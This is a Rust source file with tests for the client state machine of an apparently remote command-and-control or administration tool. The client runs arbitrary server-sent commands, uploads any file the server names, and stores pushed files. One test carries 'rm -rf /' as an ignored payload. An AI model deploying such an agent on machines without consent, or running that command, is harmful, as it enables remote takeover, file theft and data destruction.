//! Client-side state machine.

use std::path::PathBuf;
use std::sync::Arc;
use std::time::{SystemTime, UNIX_EPOCH};

use tokio::io::AsyncReadExt;
use tracing::{debug, info, warn};

use super::ClientError;
use crate::codec::{self, ItemBuffer, Reassembler};
use crate::exec::{Command, CommandRunner};
use crate::server::HELLO_PAYLOAD;
use crate::signal::{Category, Signal};
use crate::wire::{Envelope, FrameSink, StreamId};

/// Payload sent with `CLIENT_FAIL` and `FILE_NOT_FOUND`.
pub const ERROR_PAYLOAD: &[u8] = b"error";

/// Where the client is in one interaction.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ClientState {
    Idle,
    AwaitServerSignal,
    ExecutingStock,
    ExecutingCustom,
    StreamingFileOut,
    StreamingFileIn,
    Responding,
    /// Killed by the server. Terminal.
    Terminated,
}

/// Knobs for [`ClientMachine`].
#[derive(Debug, Clone)]
pub struct ClientSettings {
    /// Directory for files pushed by the server.
    pub download_dir: PathBuf,
    /// Largest payload per outbound frame.
    pub max_chunk: usize,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Handler {
    Kill,
    FileIn,
    FileOut,
    Stock,
    Custom,
    /// Announcement of the command batch that follows.
    Batch,
    /// Nothing to do.
    Quiet,
    /// Anything the client cannot act on.
    Fail,
}

fn handler_for(signal: Signal) -> Handler {
    match signal.category() {
        Category::Custom => Handler::Custom,
        Category::Stock => Handler::Stock,
        Category::Status if signal == Signal::NoResponseNeeded => Handler::Quiet,
        Category::Client if signal == Signal::ClientKill => Handler::Kill,
        Category::Server => match signal {
            Signal::ServerSeesHello => Handler::Batch,
            Signal::ServerSeesResponse => Handler::Quiet,
            Signal::ServerFileSend => Handler::FileIn,
            Signal::ServerFileRecv => Handler::FileOut,
            _ => Handler::Fail,
        },
        _ => Handler::Fail,
    }
}

struct Download {
    path: PathBuf,
    writer: Reassembler<tokio::fs::File>,
}

/// Interprets server frames and produces the client's replies.
pub struct ClientMachine {
    id: StreamId,
    state: ClientState,
    runner: Arc<dyn CommandRunner>,
    settings: ClientSettings,
    download: Option<Download>,
    /// Custom command text still waiting for its delimiter.
    custom_items: ItemBuffer,
    /// Requested filename still waiting for its delimiter.
    file_requests: ItemBuffer,
}

impl ClientMachine {
    pub fn new(id: StreamId, runner: Arc<dyn CommandRunner>, settings: ClientSettings) -> Self {
        Self {
            id,
            state: ClientState::Idle,
            runner,
            settings,
            download: None,
            custom_items: ItemBuffer::new(),
            file_requests: ItemBuffer::new(),
        }
    }

    pub fn id(&self) -> StreamId {
        self.id
    }

    pub fn state(&self) -> ClientState {
        self.state
    }

    pub fn is_terminated(&self) -> bool {
        self.state == ClientState::Terminated
    }

    /// Start an interaction: announce ourselves to the server.
    pub async fn connect(&mut self, sink: &mut dyn FrameSink) -> Result<(), ClientError> {
        if self.is_terminated() {
            return Err(ClientError::Terminated);
        }
        // Leftovers from an interaction that ended in an error.
        self.download = None;
        self.custom_items = ItemBuffer::new();
        self.file_requests = ItemBuffer::new();
        sink.send(Envelope::new(self.id, Signal::ClientHello, HELLO_PAYLOAD).into())
            .await?;
        self.state = ClientState::AwaitServerSignal;
        Ok(())
    }

    /// React to one server frame.
    pub async fn handle(
        &mut self,
        envelope: Envelope,
        sink: &mut dyn FrameSink,
    ) -> Result<(), ClientError> {
        if self.is_terminated() {
            return Ok(());
        }
        let signal = envelope.signal();
        match handler_for(signal) {
            Handler::Kill => {
                info!(stream_id = self.id, "Kill received from server");
                // In-flight transfers are abandoned as they are.
                self.download = None;
                self.state = ClientState::Terminated;
            }
            Handler::FileIn => {
                self.state = ClientState::StreamingFileIn;
                self.append_download(&envelope.payload).await?;
            }
            Handler::FileOut => {
                let requests = self.file_requests.push(&envelope.payload);
                if requests.is_empty() && self.file_requests.is_empty() {
                    // Terminated request with no name in it.
                    self.reply_not_found(None, sink).await?;
                }
                for filename in requests {
                    self.state = ClientState::StreamingFileOut;
                    self.stream_file(&filename, sink).await?;
                }
                self.state = ClientState::AwaitServerSignal;
            }
            Handler::Stock => {
                self.state = ClientState::ExecutingStock;
                let output = self.runner.run(&Command::Stock(signal)).await;
                self.respond(output.as_bytes(), sink).await?;
            }
            Handler::Custom => {
                self.state = ClientState::ExecutingCustom;
                // Frames may merge several commands or split a long one.
                for item in self.custom_items.push(&envelope.payload) {
                    let output = self.runner.run(&Command::Custom(item)).await;
                    self.respond(output.as_bytes(), sink).await?;
                    self.state = ClientState::ExecutingCustom;
                }
                self.state = ClientState::AwaitServerSignal;
            }
            Handler::Batch => {
                let labels = codec::split_items(&envelope.payload);
                debug!(stream_id = self.id, ?labels, "Server has commands");
            }
            Handler::Quiet => {}
            Handler::Fail => {
                warn!(stream_id = self.id, code = envelope.code, "Unexpected signal from server");
                sink.send(Envelope::new(self.id, Signal::ClientFail, ERROR_PAYLOAD).into())
                    .await?;
            }
        }
        Ok(())
    }

    /// The server has no more frames: close any download and go idle.
    ///
    /// Returns the path of the file received in this interaction, if any.
    pub async fn end_of_stream(&mut self) -> Result<Option<PathBuf>, ClientError> {
        if self.is_terminated() {
            return Ok(None);
        }
        self.state = ClientState::Idle;
        for (kind, buffer) in [
            ("command", &mut self.custom_items),
            ("file request", &mut self.file_requests),
        ] {
            if let Some(rest) = buffer.take_remainder() {
                warn!(stream_id = self.id, kind, bytes = rest.len(), "Dropping unterminated item");
            }
        }
        let Some(download) = self.download.take() else {
            return Ok(None);
        };
        let bytes = download.writer.bytes_written();
        download.writer.finish().await?;
        info!(path = %download.path.display(), bytes, "File received from server");
        Ok(Some(download.path))
    }

    async fn respond(&mut self, output: &[u8], sink: &mut dyn FrameSink) -> Result<(), ClientError> {
        self.state = ClientState::Responding;
        if output.is_empty() {
            sink.send(Envelope::bare(self.id, Signal::ClientResponse).into())
                .await?;
        }
        for chunk in codec::chunk(output, self.settings.max_chunk) {
            sink.send(Envelope::new(self.id, Signal::ClientResponse, chunk).into())
                .await?;
        }
        self.state = ClientState::AwaitServerSignal;
        Ok(())
    }

    async fn append_download(&mut self, chunk: &[u8]) -> Result<(), ClientError> {
        if self.download.is_none() {
            tokio::fs::create_dir_all(&self.settings.download_dir).await?;
            let millis = SystemTime::now()
                .duration_since(UNIX_EPOCH)
                .map(|d| d.as_millis())
                .unwrap_or_default();
            let path = self.settings.download_dir.join(format!("transfer-{millis}.bin"));
            let file = tokio::fs::OpenOptions::new()
                .create(true)
                .write(true)
                .truncate(true)
                .open(&path)
                .await?;
            self.download = Some(Download {
                path,
                writer: Reassembler::new(file),
            });
        }
        if let Some(download) = self.download.as_mut() {
            download.writer.append(chunk).await?;
        }
        Ok(())
    }

    async fn reply_not_found(
        &mut self,
        filename: Option<&str>,
        sink: &mut dyn FrameSink,
    ) -> Result<(), ClientError> {
        warn!(stream_id = self.id, ?filename, "Requested file not readable");
        sink.send(Envelope::new(self.id, Signal::FileNotFound, ERROR_PAYLOAD).into())
            .await?;
        Ok(())
    }

    /// Send `filename` in chunks, or `FILE_NOT_FOUND` if it cannot be read.
    ///
    /// Chunks already sent before a read error stay sent; the server keeps
    /// the partial upload.
    async fn stream_file(
        &mut self,
        filename: &str,
        sink: &mut dyn FrameSink,
    ) -> Result<(), ClientError> {
        let mut file = match codec::open_source(filename).await {
            Ok(file) => file,
            Err(e) => {
                debug!(stream_id = self.id, filename, error = %e, "Cannot open requested file");
                return self.reply_not_found(Some(filename), sink).await;
            }
        };

        let max = self.settings.max_chunk.max(1) as u64;
        let mut first = true;
        loop {
            let mut chunk = Vec::with_capacity(max as usize);
            if let Err(e) = (&mut file).take(max).read_to_end(&mut chunk).await {
                debug!(stream_id = self.id, filename, error = %e, "Reading requested file failed");
                return self.reply_not_found(Some(filename), sink).await;
            }
            // An empty file still produces one frame.
            if chunk.is_empty() && !first {
                break;
            }
            first = false;
            let len = chunk.len() as u64;
            sink.send(Envelope::new(self.id, Signal::ClientFileSend, chunk).into())
                .await?;
            if len < max {
                break;
            }
        }
        debug!(stream_id = self.id, filename, "File sent to server");
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::BoxFuture;
    use crate::wire::Frame;
    use pretty_assertions::assert_eq;
    use std::sync::Mutex;
    use tempfile::TempDir;

    /// Records what it was asked to run and answers with a canned string.
    #[derive(Default)]
    struct FakeRunner {
        ran: Mutex<Vec<Command>>,
        output: String,
    }

    impl CommandRunner for FakeRunner {
        fn run<'a>(&'a self, command: &'a Command) -> BoxFuture<'a, String> {
            if let Ok(mut ran) = self.ran.lock() {
                ran.push(command.clone());
            }
            let output = self.output.clone();
            Box::pin(async move { output })
        }
    }

    fn machine(output: &str, dir: &TempDir, max_chunk: usize) -> (ClientMachine, Arc<FakeRunner>) {
        let runner = Arc::new(FakeRunner {
            ran: Mutex::new(Vec::new()),
            output: output.to_string(),
        });
        let settings = ClientSettings {
            download_dir: dir.path().join("downloads"),
            max_chunk,
        };
        (ClientMachine::new(8, runner.clone(), settings), runner)
    }

    fn data(frames: &[Frame]) -> Vec<(Signal, Vec<u8>)> {
        frames
            .iter()
            .filter_map(|f| match f {
                Frame::Data(env) => Some((env.signal(), env.payload.clone())),
                Frame::Close { .. } => None,
            })
            .collect()
    }

    #[tokio::test]
    async fn test_connect_sends_hello() {
        let dir = TempDir::new().unwrap();
        let (mut m, _) = machine("", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        assert_eq!(m.state(), ClientState::Idle);
        m.connect(&mut out).await.unwrap();
        assert_eq!(m.state(), ClientState::AwaitServerSignal);
        assert_eq!(
            data(&out),
            vec![(Signal::ClientHello, HELLO_PAYLOAD.to_vec())]
        );
    }

    #[tokio::test]
    async fn test_stock_ignores_payload_and_chunks_output() {
        let dir = TempDir::new().unwrap();
        let (mut m, runner) = machine("abcdefghij", &dir, 4);
        let mut out: Vec<Frame> = Vec::new();
        m.handle(Envelope::new(8, Signal::Ls, b"rm -rf /***".to_vec()), &mut out)
            .await
            .unwrap();

        assert_eq!(*runner.ran.lock().unwrap(), vec![Command::Stock(Signal::Ls)]);
        assert_eq!(
            data(&out),
            vec![
                (Signal::ClientResponse, b"abcd".to_vec()),
                (Signal::ClientResponse, b"efgh".to_vec()),
                (Signal::ClientResponse, b"ij".to_vec()),
            ]
        );
        assert_eq!(m.state(), ClientState::AwaitServerSignal);
    }

    #[tokio::test]
    async fn test_custom_runs_every_item() {
        let dir = TempDir::new().unwrap();
        let (mut m, runner) = machine("ok", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        m.handle(
            Envelope::new(8, Signal::Custom, b"echo a***echo b******".to_vec()),
            &mut out,
        )
        .await
        .unwrap();
        assert_eq!(
            *runner.ran.lock().unwrap(),
            vec![
                Command::Custom("echo a".into()),
                Command::Custom("echo b".into())
            ]
        );
        assert_eq!(out.len(), 2);
    }

    #[tokio::test]
    async fn test_empty_output_still_answers() {
        let dir = TempDir::new().unwrap();
        let (mut m, _) = machine("", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        m.handle(Envelope::new(8, Signal::Pwd, b"***".to_vec()), &mut out)
            .await
            .unwrap();
        assert_eq!(data(&out), vec![(Signal::ClientResponse, Vec::new())]);
    }

    #[tokio::test]
    async fn test_quiet_signals() {
        let dir = TempDir::new().unwrap();
        let (mut m, _) = machine("", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        for signal in [
            Signal::NoResponseNeeded,
            Signal::ServerSeesResponse,
            Signal::ServerSeesHello,
        ] {
            m.handle(Envelope::new(8, signal, b"LS***".to_vec()), &mut out)
                .await
                .unwrap();
        }
        assert!(out.is_empty());
    }

    #[tokio::test]
    async fn test_unexpected_signal_answers_fail() {
        let dir = TempDir::new().unwrap();
        let (mut m, _) = machine("", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        m.handle(Envelope::bare(8, Signal::ClientHello), &mut out)
            .await
            .unwrap();
        let bogus = Envelope {
            stream_id: 8,
            code: 3,
            payload: Vec::new(),
        };
        m.handle(bogus, &mut out).await.unwrap();
        assert_eq!(
            data(&out),
            vec![
                (Signal::ClientFail, ERROR_PAYLOAD.to_vec()),
                (Signal::ClientFail, ERROR_PAYLOAD.to_vec()),
            ]
        );
    }

    #[tokio::test]
    async fn test_kill_is_terminal_and_silent() {
        let dir = TempDir::new().unwrap();
        let (mut m, runner) = machine("x", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        m.handle(Envelope::bare(8, Signal::ClientKill), &mut out)
            .await
            .unwrap();
        assert!(m.is_terminated());

        m.handle(Envelope::new(8, Signal::Ls, b"***".to_vec()), &mut out)
            .await
            .unwrap();
        assert!(out.is_empty());
        assert!(runner.ran.lock().unwrap().is_empty());
        assert!(matches!(
            m.connect(&mut out).await,
            Err(ClientError::Terminated)
        ));
    }

    #[tokio::test]
    async fn test_file_in_is_reassembled() {
        let dir = TempDir::new().unwrap();
        let (mut m, _) = machine("", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        for part in [&b"top "[..], b"secret", b"\n"] {
            m.handle(Envelope::new(8, Signal::ServerFileSend, part.to_vec()), &mut out)
                .await
                .unwrap();
            assert_eq!(m.state(), ClientState::StreamingFileIn);
        }
        let path = m.end_of_stream().await.unwrap().unwrap();
        assert!(path.starts_with(dir.path().join("downloads")));
        assert_eq!(std::fs::read(path).unwrap(), b"top secret\n");
        assert!(out.is_empty());
        assert_eq!(m.state(), ClientState::Idle);
    }

    #[tokio::test]
    async fn test_file_out_streams_chunks() {
        let dir = TempDir::new().unwrap();
        let file = dir.path().join("notes.txt");
        std::fs::write(&file, b"0123456789").unwrap();
        let (mut m, _) = machine("", &dir, 4);
        let mut out: Vec<Frame> = Vec::new();
        let payload = format!("{}***", file.display());
        m.handle(Envelope::new(8, Signal::ServerFileRecv, payload), &mut out)
            .await
            .unwrap();
        assert_eq!(
            data(&out),
            vec![
                (Signal::ClientFileSend, b"0123".to_vec()),
                (Signal::ClientFileSend, b"4567".to_vec()),
                (Signal::ClientFileSend, b"89".to_vec()),
            ]
        );
    }

    #[tokio::test]
    async fn test_file_out_exact_multiple_has_no_trailing_empty_frame() {
        let dir = TempDir::new().unwrap();
        let file = dir.path().join("eight.bin");
        std::fs::write(&file, b"01234567").unwrap();
        let (mut m, _) = machine("", &dir, 4);
        let mut out: Vec<Frame> = Vec::new();
        m.handle(
            Envelope::new(8, Signal::ServerFileRecv, format!("{}***", file.display())),
            &mut out,
        )
        .await
        .unwrap();
        let sizes: Vec<usize> = data(&out).iter().map(|(_, p)| p.len()).collect();
        assert_eq!(sizes, vec![4, 4]);
    }

    #[tokio::test]
    async fn test_missing_file_reports_not_found() {
        let dir = TempDir::new().unwrap();
        let (mut m, _) = machine("", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        m.handle(
            Envelope::new(8, Signal::ServerFileRecv, b"/no/such/file***".to_vec()),
            &mut out,
        )
        .await
        .unwrap();
        assert_eq!(
            data(&out),
            vec![(Signal::FileNotFound, ERROR_PAYLOAD.to_vec())]
        );
    }

    #[tokio::test]
    async fn test_directory_request_reports_not_found() {
        let dir = TempDir::new().unwrap();
        let (mut m, _) = machine("", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        let payload = format!("{}***", dir.path().display());
        m.handle(Envelope::new(8, Signal::ServerFileRecv, payload), &mut out)
            .await
            .unwrap();
        assert_eq!(
            data(&out),
            vec![(Signal::FileNotFound, ERROR_PAYLOAD.to_vec())]
        );
        assert_eq!(m.state(), ClientState::AwaitServerSignal);
    }

    #[tokio::test]
    async fn test_blank_file_request_reports_not_found() {
        let dir = TempDir::new().unwrap();
        let (mut m, _) = machine("", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        m.handle(Envelope::new(8, Signal::ServerFileRecv, b"***".to_vec()), &mut out)
            .await
            .unwrap();
        assert_eq!(
            data(&out),
            vec![(Signal::FileNotFound, ERROR_PAYLOAD.to_vec())]
        );
    }

    #[tokio::test]
    async fn test_custom_command_split_across_frames() {
        let dir = TempDir::new().unwrap();
        let (mut m, runner) = machine("ok", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        for piece in [&b"echo lo"[..], b"ng line*", b"**"] {
            m.handle(Envelope::new(8, Signal::Custom, piece.to_vec()), &mut out)
                .await
                .unwrap();
        }
        assert_eq!(
            *runner.ran.lock().unwrap(),
            vec![Command::Custom("echo long line".into())]
        );
        assert_eq!(out.len(), 1);
    }

    #[tokio::test]
    async fn test_file_request_split_across_frames() {
        let dir = TempDir::new().unwrap();
        let file = dir.path().join("notes.txt");
        std::fs::write(&file, b"hi").unwrap();
        let (mut m, _) = machine("", &dir, 4);
        let mut out: Vec<Frame> = Vec::new();
        let payload = format!("{}***", file.display());
        for piece in codec::chunk(payload.as_bytes(), 4) {
            m.handle(Envelope::new(8, Signal::ServerFileRecv, piece), &mut out)
                .await
                .unwrap();
        }
        assert_eq!(data(&out), vec![(Signal::ClientFileSend, b"hi".to_vec())]);
    }

    #[tokio::test]
    async fn test_unterminated_command_is_dropped_at_end_of_stream() {
        let dir = TempDir::new().unwrap();
        let (mut m, runner) = machine("ok", &dir, 1230);
        let mut out: Vec<Frame> = Vec::new();
        m.handle(Envelope::new(8, Signal::Custom, b"echo half".to_vec()), &mut out)
            .await
            .unwrap();
        m.end_of_stream().await.unwrap();
        m.handle(Envelope::new(8, Signal::Custom, b"***".to_vec()), &mut out)
            .await
            .unwrap();
        assert!(runner.ran.lock().unwrap().is_empty());
        assert!(out.is_empty());
    }
}
